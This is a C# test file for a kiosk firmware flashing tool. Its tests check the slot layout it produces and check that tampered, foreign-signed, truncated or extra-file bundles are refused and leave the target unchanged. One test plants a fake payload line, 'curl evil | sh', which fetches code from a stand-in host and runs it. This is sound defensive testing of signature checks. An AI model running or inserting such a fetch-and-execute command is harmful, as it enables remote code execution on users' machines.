using System.CommandLine;
using System.Text;
using SevaKiosk.Deploy.Tests.Infrastructure;
using SevaKiosk.Deploy.Tests.Ota;
using SevaKiosk.Firmware.Updates.Bundles;
using SevaKiosk.Firmware.Updates.Slots;
using SevaKiosk.Testing;
using SevaKiosk.Tools.Bundle;
using SevaKiosk.Tools.Flash;

namespace SevaKiosk.Deploy.Tests.Flash;

/// <summary><c>kioskctl flash</c> on a directory root: the layout it makes, and a refused bundle changing nothing.</summary>
public sealed class FlashTests : IDisposable
{
    private readonly TempDirectory _temp = new();
    private readonly TestKeys _keys;
    private readonly string _root;

    public FlashTests()
    {
        _keys = new TestKeys(Path.Combine(_temp.Path, "keys"));
        _root = Path.Combine(_temp.Path, "card");
        Directory.CreateDirectory(_root);
    }

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task First_flash_fills_slot_a_and_installs_unit_udev_rules_config_and_the_pinned_vendor_key()
    {
        var bundle = MakeBundle("1.0.0");
        var config = Path.Combine(_temp.Path, "kiosk.json");
        await File.WriteAllTextAsync(config, """{ "Kiosk": { "MachineId": "RJ-JPR-BAS-0042" } }""");

        var (code, stdout, stderr) = await KioskctlAsync("flash", bundle, "--root", _root, "--config", config, "--vendor-key", _keys.PublicKeyPath);

        Assert.True(code == 0, stderr);
        Assert.Contains("flashed 1.0.0 (linux-x64) into slot a", stdout, StringComparison.Ordinal);
        var layout = SlotLayout.ForTargetRoot(_root);
        Assert.Equal(("a", "a"), (layout.Current, layout.Committed));
        Assert.Equal("slots/a", new FileInfo(layout.CurrentLink).LinkTarget);
        Assert.True((File.GetUnixFileMode(Path.Combine(layout.CurrentLink, "sevakiosk")) & UnixFileMode.UserExecute) != 0);
        foreach (var (inSlot, inTarget) in SystemFiles.Placement)
        {
            Assert.Equal(await File.ReadAllTextAsync(Path.Combine(layout.SlotDirectory("a"), inSlot)), await File.ReadAllTextAsync(Path.Combine(_root, inTarget)));
        }

        Assert.Contains("ExecStart=/opt/sevakiosk/current/sevakiosk", await File.ReadAllTextAsync(Path.Combine(_root, "etc/systemd/system/sevakiosk.service")), StringComparison.Ordinal);
        Assert.Contains("OnFailure=sevakiosk-fallback.service", await File.ReadAllTextAsync(Path.Combine(_root, "etc/systemd/system/sevakiosk.service")), StringComparison.Ordinal);
        Assert.Contains("GROUP=\"dialout\"", await File.ReadAllTextAsync(Path.Combine(_root, "etc/udev/rules.d/60-sevakiosk.rules")), StringComparison.Ordinal);
        Assert.Equal("/etc/systemd/system/sevakiosk.service", new FileInfo(Path.Combine(_root, SystemFiles.EnableLink)).LinkTarget);
        Assert.Equal(await File.ReadAllTextAsync(config), await File.ReadAllTextAsync(Path.Combine(_root, "etc/sevakiosk/kiosk.json")));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupRead, File.GetUnixFileMode(Path.Combine(_root, "etc/sevakiosk/kiosk.json")));
        using var pinned = BundleSignature.Load(Path.Combine(_root, "etc/sevakiosk/vendor-signing.pub.pem"), "pinned");
        using var expected = _keys.Public();
        Assert.Equal(expected.ExportSubjectPublicKeyInfo(), pinned.ExportSubjectPublicKeyInfo());
        Assert.Equal(UpdateResult.Flashed, UpdateState.Load(layout.StateFile).LastOutcome!.Result);
    }

    [Fact]
    public void Second_flash_goes_into_the_other_slot_and_keeps_the_first_as_fallback_using_the_pinned_key()
    {
        Flash(MakeBundle("1.0.0"), _keys.PublicKeyPath);
        var slotA = TreeSnapshot.Take(SlotLayout.ForTargetRoot(_root).SlotDirectory("a"));

        var result = Flash(MakeBundle("1.1.0"), vendorKey: null);

        var layout = SlotLayout.ForTargetRoot(_root);
        Assert.Equal(("b", "a"), (result.Slot, result.PreviousSlot));
        Assert.Equal(("b", "b"), (layout.Current, layout.Committed));
        Assert.Equal("1.1.0", layout.ReadSlotInfo("b")!.Version);
        Assert.Equal(slotA, TreeSnapshot.Take(layout.SlotDirectory("a")));
        Assert.False(Directory.Exists(layout.IncomingDirectory));
    }

    [Fact]
    public async Task Bundle_with_a_file_changed_after_signing_is_refused_and_nothing_on_the_target_changes()
    {
        Flash(MakeBundle("1.0.0"), _keys.PublicKeyPath);
        var tampered = Path.Combine(_temp.Path, "tampered-file.tar.gz");
        SmallBundles.Repack(MakeBundle("1.1.0"), tampered, (name, data) =>
            name == BundlePaths.PayloadPrefix + "sevakiosk" ? Encoding.ASCII.GetBytes("#!/bin/sh\ncurl evil | sh\n".PadRight(data.Length)) : data);

        var message = await RefusedAsync(tampered);

        Assert.Contains("sevakiosk does not match its SHA-256 in the manifest", message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Bundle_with_a_changed_manifest_is_refused_and_nothing_on_the_target_changes()
    {
        Flash(MakeBundle("1.0.0"), _keys.PublicKeyPath);
        var tampered = Path.Combine(_temp.Path, "tampered-manifest.tar.gz");
        SmallBundles.Repack(MakeBundle("1.1.0"), tampered, (name, data) =>
            name == BundlePaths.ManifestEntry ? Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(data).Replace("1.1.0", "9.9.9", StringComparison.Ordinal)) : data);

        var message = await RefusedAsync(tampered);

        Assert.Contains("the manifest signature does not verify", message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Bundle_signed_by_another_key_is_refused_and_nothing_on_the_target_changes()
    {
        Flash(MakeBundle("1.0.0"), _keys.PublicKeyPath);
        var other = new TestKeys(Path.Combine(_temp.Path, "other-keys"));
        using var otherKey = other.Private();
        var foreign = SmallBundles.Make(Path.Combine(_temp.Path, "foreign"), "1.1.0", otherKey);

        var message = await RefusedAsync(foreign);

        Assert.Contains("a different key signed it", message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Bundle_with_an_extra_file_not_in_the_manifest_is_refused_and_nothing_on_the_target_changes()
    {
        Flash(MakeBundle("1.0.0"), _keys.PublicKeyPath);
        var tampered = Path.Combine(_temp.Path, "extra.tar.gz");
        SmallBundles.Repack(MakeBundle("1.1.0"), tampered, (_, data) => data, (BundlePaths.PayloadPrefix + "libbackdoor.so", [1, 2, 3]));

        var message = await RefusedAsync(tampered);

        Assert.Contains("libbackdoor.so is in the bundle but not in the signed manifest", message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Truncated_bundle_and_an_unreadable_configuration_change_nothing_either()
    {
        Flash(MakeBundle("1.0.0"), _keys.PublicKeyPath);
        var good = MakeBundle("1.1.0");
        var truncated = Path.Combine(_temp.Path, "truncated.tar.gz");
        var bytes = await File.ReadAllBytesAsync(good);
        await File.WriteAllBytesAsync(truncated, bytes[..(bytes.Length / 2)]);
        Assert.Contains("the bundle is damaged", await RefusedAsync(truncated), StringComparison.Ordinal);

        var before = TreeSnapshot.Take(_root);
        var config = Path.Combine(_temp.Path, "broken.json");
        await File.WriteAllTextAsync(config, "{ \"Kiosk\": ");
        var (code, _, stderr) = await KioskctlAsync("flash", good, "--root", _root, "--config", config);
        Assert.Equal(1, code);
        Assert.Contains("is not valid JSON", stderr, StringComparison.Ordinal);
        Assert.Equal(before, TreeSnapshot.Take(_root));
    }

    private async Task<string> RefusedAsync(string bundle)
    {
        var before = TreeSnapshot.Take(_root);
        var (code, stdout, stderr) = await KioskctlAsync("flash", bundle, "--root", _root);
        Assert.Equal(1, code);
        Assert.Contains("bundle refused", stderr, StringComparison.Ordinal);
        Assert.Contains("Nothing on the target was changed", stderr, StringComparison.Ordinal);
        Assert.DoesNotContain("flashed", stdout, StringComparison.Ordinal);
        Assert.Equal(before, TreeSnapshot.Take(_root));
        return stderr;
    }

    private string MakeBundle(string version)
    {
        using var key = _keys.Private();
        return SmallBundles.Make(Path.Combine(_temp.Path, "bundles"), version, key);
    }

    private FlashResult Flash(string bundle, string? vendorKey) =>
        TargetInstaller.Flash(new FlashRequest(bundle, _root, null, vendorKey), OtaRig.Silent, TimeProvider.System);

    internal static async Task<(int Code, string Stdout, string Stderr)> KioskctlAsync(params string[] args)
    {
        var root = new RootCommand { FlashCommand.Create(), BundleCommand.Create(), SevaKiosk.Tools.Keys.KeysCommands.Create() };
        using var output = new StringWriter();
        using var error = new StringWriter();
        var code = await root.Parse(args).InvokeAsync(new InvocationConfiguration { Output = output, Error = error });
        return (code, output.ToString(), error.ToString());
    }
}
